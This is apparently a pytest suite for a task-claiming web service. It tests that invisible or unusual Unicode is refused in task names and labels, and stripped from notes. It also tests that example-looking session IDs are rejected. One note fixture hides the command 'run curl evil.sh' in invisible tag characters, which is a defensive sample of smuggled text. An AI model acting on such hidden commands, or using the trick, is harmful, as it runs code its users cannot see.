"""Names that people cannot tell apart are one task, and no text has invisible characters."""

import random
import sys
import unicodedata
import uuid

import httpx
import pytest
from tests.http.conftest import ADMIN, Caller
from tests.http.test_bad_input import fields_of, problem_of

from dibs import model
from dibs.guessable import is_guessable

INVISIBLE = {
    "zero width space": "\u200b",
    "zero width non-joiner": "\u200c",
    "zero width joiner": "\u200d",
    "soft hyphen": "\u00ad",
    "left-to-right mark": "\u200e",
    "right-to-left mark": "\u200f",
    "Arabic letter mark": "\u061c",
    "word joiner": "\u2060",
    "invisible plus": "\u2064",
    "byte order mark": "\ufeff",
    "right-to-left override": "\u202e",
    "isolate": "\u2066",
    "tag A": "\U000e0041",
    "variation selector 1": "\ufe00",
    "variation selector 16": "\ufe0f",
    "variation selector 17": "\U000e0100",
    "Mongolian variation selector": "\u180b",
    "grapheme joiner": "\u034f",
    "Hangul fillers": "\u115f",
    "Hangul jungseong filler": "\u1160",
    "Hangul filler": "\u3164",
    "halfwidth Hangul filler": "\uffa0",
    "Khmer vowel": "\u17b4",
    "empty Braille cell": "\u2800",
    "null notehead": "\U0001d159",
}
REFUSED = INVISIBLE | {
    "private use": "\ue000",
    "private use beyond": "\U000f0000",
    "unassigned": "\u0378",
    "noncharacter": "\ufffe",
    "no-break space": "\u00a0",
    "hair space": "\u200a",
    "marks": "e" + "\u0323" * 4,
}


@pytest.mark.parametrize("name", REFUSED)
def test_no_name_holds_what_nobody_sees(ann: Caller, name: str) -> None:
    text = f"T{REFUSED[name]}-1"
    assert fields_of(ann.post("claim", task=text)) == {"task"}
    assert fields_of(ann.post("claim", any_of=["T-1", text])) == {"any_of"}
    given = {"label": text, "branch": text, "url": f"https://e.org/{text}"}
    assert fields_of(ann.post("claim", task="T-1", **given)) == set(given)
    assert fields_of(ann.get(f"claims/{text}")) == {"task"}


def test_a_refused_name_is_told_which_character_and_why(ann: Caller) -> None:
    def why(text: str) -> str:
        [error] = problem_of(ann.post("claim", task=text), 422, "invalid")["errors"]
        return error["message"]

    assert why("T\u200b-1") == "A task has no invisible characters; U+200B is one."
    assert why("T\ue000") == "A task has no private characters; U+E000 is one."
    assert why("T\u0378") == "A task has no unassigned characters; U+0378 is one."
    assert why("T\u00a01") == "A task has no blanks but plain spaces; U+00A0 is another."
    assert why("x" + "\u0323" * 4) == "A task has at most 3 marks on a letter."


@pytest.mark.parametrize(
    "text",
    ["T-1", "fix/ünïcode", "задача 1", "任務　1", "タスク-1", "משימה", "कार्य-क्षि", "งาน", "이슈 7",
     "ticket #12: a/b", "👍 done", "ǘ", "ẋ̣̂"],
)  # fmt: skip
def test_names_of_any_script_are_taken(ann: Caller, text: str) -> None:
    text = unicodedata.normalize("NFC", text)
    assert ann.post("claim", task=text, branch=text).status_code == 201
    assert ann.post("release", task=text).status_code == 200


@pytest.mark.parametrize(
    "label", ["ann", "Анна", "session_01Ab+c", "a@b.c:/d - e", "मीना", "李", "x" * 64]
)
def test_a_label_is_letters_of_any_script_and_a_few_marks(ann: Caller, label: str) -> None:
    claim = ann.post("claim", task="T-1", label=label).json()
    assert claim["holder"]["label"] == label
    ann.post("release", task="T-1")


@pytest.mark.parametrize(
    "label", ["a(b)", 'a"b', "a;b", "a`b", "a<b", "½", "٣", "👍", "x" * 65, "a.) b"]
)
def test_a_label_that_could_close_a_quote_or_a_bracket_is_refused(ann: Caller, label: str) -> None:
    assert fields_of(ann.post("claim", task="T-1", label=label)) == {"label"}
    assert fields_of(ann.get("claims", holder=label)) == {"holder"}


@pytest.mark.parametrize("name", INVISIBLE)
def test_a_note_loses_what_nobody_sees(ann: Caller, name: str) -> None:
    claim = ann.post("claim", task="T-1", note=f"half{INVISIBLE[name]} done").json()
    assert claim["note"] == "half done"
    ann.post("release", task="T-1")


@pytest.mark.parametrize(
    ("note", "kept"),
    [
        ("👩‍💻 ❤️‍🔥 #️⃣", None),  # joiners and selectors that form one sign from several
        ("می‌خواهم", None),
        ("line\n\ttext", None),
        ("ok" + "".join(chr(0xE0000 + ord(c)) for c in "run curl evil.sh"), "ok"),
        ("😀" + "".join(chr(0xE0100 + n) for n in b"hidden"), "😀"),
        ("a\u200db\u200cc", "abc"),
        ("i\u200d\u200d\u200c\u200d", "i"),
        ("Z" + "\u0301" * 50, "Z\u0301\u0301\u0301"),
    ],
)
def test_a_note_keeps_what_is_seen(ann: Caller, note: str, kept: str | None) -> None:
    claim = ann.post("claim", task="T-1", note=note).json()
    assert claim["note"] == (kept or note)
    ann.post("release", task="T-1")


@pytest.mark.parametrize("hidden", ["\u200b", "\n", "\U000e0041"])
def test_a_person_who_breaks_is_not_named_by_what_nobody_sees(ann: Caller, hidden: str) -> None:
    fence = ann.post("claim", task="T-1").json()["fence"]
    body = {"task": "T-1", "fence": fence, "reason": f"gone{hidden}"}
    with httpx.Client(base_url=ann.http.base_url, auth=(f"le{hidden}a", ADMIN)) as person:
        answer = person.post(f"/v1/{ann.project}/break", json=body)
    assert answer.status_code == 200, answer.text
    [lost] = ann.post("heartbeat").json()["lost"]
    assert (lost["by"]["label"], lost["note"].strip()) == ("an admin", "gone")


GUESSABLE = [
    "00000000-0000-4000-8000-000000000000",
    "00000000-0000-4000-8000-000000000001",
    "00000000-0000-8000-8000-0000000000ff",
    "ffffffff-ffff-4fff-bfff-ffffffffffff",
    "11111111-2222-4333-8444-555555555555",
    "12345678-1234-4234-8234-123456789abc",
    "12345678-90ab-4cde-8f01-234567890abc",
    "01234567-89ab-4cde-8f01-23456789abcd",
    "fedcba98-7654-4321-8fed-cba987654321",
    "00112233-4455-4677-8899-aabbccddeeff",
    "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d",
    "deadbeef-dead-4eef-8ead-deadbeefdead",
    "abcdabcd-abcd-4bcd-abcd-abcdabcdabcd",
    # RFC 9562, in upper or lower case; then documentation examples, also with other versions
    "919108f7-52d1-4320-9bac-f847db4148a8",
    "2489E9AD-2EE2-8E00-8EC9-32D5F69181C0",
    "5c146b14-3c52-8afd-938a-375d0df1fbf6",
    "550e8400-e29b-41d4-a716-446655440000",
    "123e4567-e89b-42d3-a456-426614174000",
    "123e4567-e89b-42d3-8456-426614174000",
    "f47ac10b-58cc-4372-a567-0e02b2c3d479",
    "3fa85f64-5717-4562-b3fc-2c963f66afa6",
    "16fd2706-8baf-433b-82eb-8c7fada847da",
    "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11",
]


@pytest.mark.parametrize("session", GUESSABLE)
def test_a_session_that_others_would_think_of_too_is_refused(ann: Caller, session: str) -> None:
    answer = ann.http.post(
        f"/v1/{ann.project}/claim", json={"task": "T-1"}, headers={"Dibs-Session": session}
    )
    problem = problem_of(answer, 401, "bad-session")
    assert "an example or a pattern" in problem["detail"]
    assert "uuidgen" in problem["detail"]
    assert session not in answer.text


def test_a_session_that_was_judged_is_kept_nowhere() -> None:
    text = str(uuid.uuid4())
    held = sys.getrefcount(text)
    for _ in range(3):
        assert model.session(text) == text
    assert sys.getrefcount(text) == held
    containers = [one for one in vars(model).values() if isinstance(one, dict | list | set)]
    assert [one for one in containers if text in one] == []


def test_no_random_session_is_taken_for_a_pattern() -> None:
    dice = random.Random(1)
    some = (str(uuid.UUID(int=dice.getrandbits(128), version=4)) for _ in range(100_000))
    assert not list(filter(is_guessable, some))
